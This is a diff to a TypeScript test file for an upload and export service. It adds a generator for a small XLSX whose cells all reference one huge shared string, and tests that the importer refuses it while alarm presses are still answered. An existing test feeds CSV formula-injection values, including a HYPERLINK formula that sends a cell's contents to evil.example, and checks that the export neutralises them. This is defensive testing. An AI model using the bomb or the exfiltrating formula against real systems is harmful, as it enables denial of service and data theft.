@@ -3,7 +3,7 @@ import * as iconv from 'iconv-lite';
 import JSZip from 'jszip';
 import { ParsePool, readTable } from '../../src/infra/tabular/tabular';
 import type { AppConfig } from '../../src/config/config';
-import { auth, seedMinimal, startApp, TestApp } from '../support/harness';
+import { alarmButtons, auth, pressButton, seedMinimal, startApp, TestApp } from '../support/harness';
 
 const MAX_ROWS = 2000;
 const MAX_UNZIPPED = 8 * 1024 * 1024;
@@ -41,6 +41,32 @@ function lieAboutSize(zip: Buffer, name: string, size: number): Buffer {
   return out;
 }
 
+const GUARD_HEADERS = ['licenceNo', 'name', 'schoolCode', 'fullTime', 'phone', 'active'];
+
+/**
+ * The attack's file (A4): every data cell of `rows` rows × 6 columns points at one shared string of
+ * `chars` characters. Small on disk (the sheet is the same short reference over and over), 6 × rows ×
+ * chars characters once every cell is read.
+ */
+async function sharedStringBomb(rows: number, chars: number): Promise<Buffer> {
+  const zip = await JSZip.loadAsync(await guardsXlsx(0));
+  const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
+  const strings = [...GUARD_HEADERS, '长'.repeat(chars)];
+  zip.file(
+    'xl/sharedStrings.xml',
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst ${ns} count="${strings.length}" uniqueCount="${strings.length}">${strings.map((x) => `<si><t>${x}</t></si>`).join('')}</sst>`,
+  );
+  const cells = (r: number, v: (i: number) => number) =>
+    GUARD_HEADERS.map((_, i) => `<c r="${String.fromCharCode(65 + i)}${r}" t="s"><v>${v(i)}</v></c>`).join('');
+  const body = [`<row r="1">${cells(1, (i) => i)}</row>`];
+  for (let r = 2; r <= rows + 1; r++) body.push(`<row r="${r}">${cells(r, () => GUARD_HEADERS.length)}</row>`);
+  zip.file(
+    'xl/worksheets/sheet1.xml',
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet ${ns}><sheetData>${body.join('')}</sheetData></worksheet>`,
+  );
+  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
+}
+
 /**
  * Uploads cannot freeze or starve the service (issue 12 §3), CSV exports carry no formulas
  * (§4), and CSV text in a legacy code page is read in its encoding or refused, never stored as
@@ -50,12 +76,14 @@ describe('hostile and awkward uploads', () => {
   let t: TestApp;
   let admin: string;
   let staff: string;
+  let button: { authorization: string };
 
   beforeAll(async () => {
     t = await startApp({ import: { maxRows: MAX_ROWS, maxUnzippedBytes: MAX_UNZIPPED, maxFileBytes: 8 * 1024 * 1024 } });
     admin = (await t.userToken('admin')).token;
     const seed = await seedMinimal(t, admin);
     staff = (await t.userToken('school_security', seed.schoolA.id)).token;
+    [button] = await alarmButtons(t, admin, seed.schoolB.id, 1, 'IMP');
   });
   afterAll(() => t.close());
 
@@ -179,6 +207,42 @@ describe('hostile and awkward uploads', () => {
     });
   });
 
+  describe('a file cannot expand past import.maxTotalChars (attack A4: shared-string amplification)', () => {
+    it('refuses a small XLSX whose cells all reference one long shared string while reading it, and a press meanwhile is answered', async () => {
+      const { maxTotalChars, maxCellChars } = t.config.import;
+      const chars = maxCellChars - 1;
+      const bomb = await sharedStringBomb(MAX_ROWS - 1, chars); // within the row, column, cell and unzipped limits
+      expect(bomb.length).toBeLessThan(200 * 1024);
+      expect(6 * (MAX_ROWS - 1) * chars).toBeGreaterThan(2 * maxTotalChars); // what it would expand to
+      const importing = upload('guards', bomb);
+      // A press of another school's button, sent while the file is being read: answered, within a bound
+      // (pressButton aborts after it) far below the 8-13 s the attack saw.
+      const press = await pressButton(t, button, 'a4-during-import', 5000);
+      expect(press.status).toBe(201);
+      const res = await importing;
+      expect([res.status, res.body.error.code, res.body.error.details.maxTotalChars]).toEqual([400, 'IMPORT.TOO_MUCH_TEXT', maxTotalChars]);
+      // Refused at the row where the running total passed the limit (per reference, header included), not after the whole sheet.
+      const headerChars = GUARD_HEADERS.join('').length;
+      expect(res.body.error.details.row).toBe(1 + Math.ceil((maxTotalChars - headerChars + 1) / (6 * chars)));
+      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
+      // The service is still fine afterwards (a new event of the same button joins its open incident: 200).
+      expect((await pressButton(t, button, 'a4-after-import', 5000)).status).toBe(200);
+    });
+
+    it('counts per reference in the reader too, and the biggest legitimate guard roster fits the default', async () => {
+      const bomb = await sharedStringBomb(10, 100);
+      const limits = { ...t.config.import, maxTotalChars: 6 * 100 * 4 + 100 }; // header + 4 rows fit, the 5th does not
+      await expect(readTable(bomb, limits)).rejects.toMatchObject({ code: 'IMPORT.TOO_MUCH_TEXT', details: { row: 6 } });
+      // The biggest legitimate sheet fits the default: 50,000 guards (the default import.maxRows), every
+      // column at its longest valid value (the longest row, counted as the reader counts it, times the rows).
+      const header = 'licenceNo,name,schoolCode,fullTime,phone,active';
+      const longest = `${'L'.repeat(24)}-0000001,${'张'.repeat(50)},${'S'.repeat(32)},false,+${'1'.repeat(20)},false`;
+      const read = await readTable(Buffer.from(`${header}\n${longest}\n`, 'utf8'), t.config.import);
+      const count = (cells: string[]) => cells.reduce((n, c) => n + c.length, 0);
+      expect(count(read.header) + 50_000 * count(read.rows[0]!.cells)).toBeLessThanOrEqual(t.config.import.maxTotalChars);
+    });
+  });
+
   describe('CSV exports carry no formulas', () => {
     const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(1)', '=1+2'];
 
@@ -186,7 +250,14 @@ describe('hostile and awkward uploads', () => {
       const csv = ['licenceNo,name,schoolCode,phone', ...NAMES.map((n, i) => `F-000${i},"${n.replace(/"/g, '""')}",SA,+86-23-1234`)].join('\n');
       expect((await upload('guards', csv, '', admin)).body).toMatchObject({ created: NAMES.length });
       const exported = await t.http().get('/api/v1/export/guards').set(auth(admin)).buffer(true).parse(binary).expect(200);
-      const table = await readTable(exported.body as Buffer, { maxRows: 100, maxColumns: 20, maxUnzippedBytes: 1e6, maxCellChars: 1000, charsetMinScore: 0.8 });
+      const table = await readTable(exported.body as Buffer, {
+        maxRows: 100,
+        maxColumns: 20,
+        maxUnzippedBytes: 1e6,
+        maxCellChars: 1000,
+        maxTotalChars: 1e6,
+        charsetMinScore: 0.8,
+      });
       const raw = (exported.body as Buffer).toString('utf8');
       for (const n of NAMES) expect(raw).not.toMatch(new RegExp(`(^|,)"?${n.slice(0, 3).replace(/[+()=@-]/g, '\\$&')}`, 'm'));
       expect(raw).toContain(`'=HYPERLINK`);
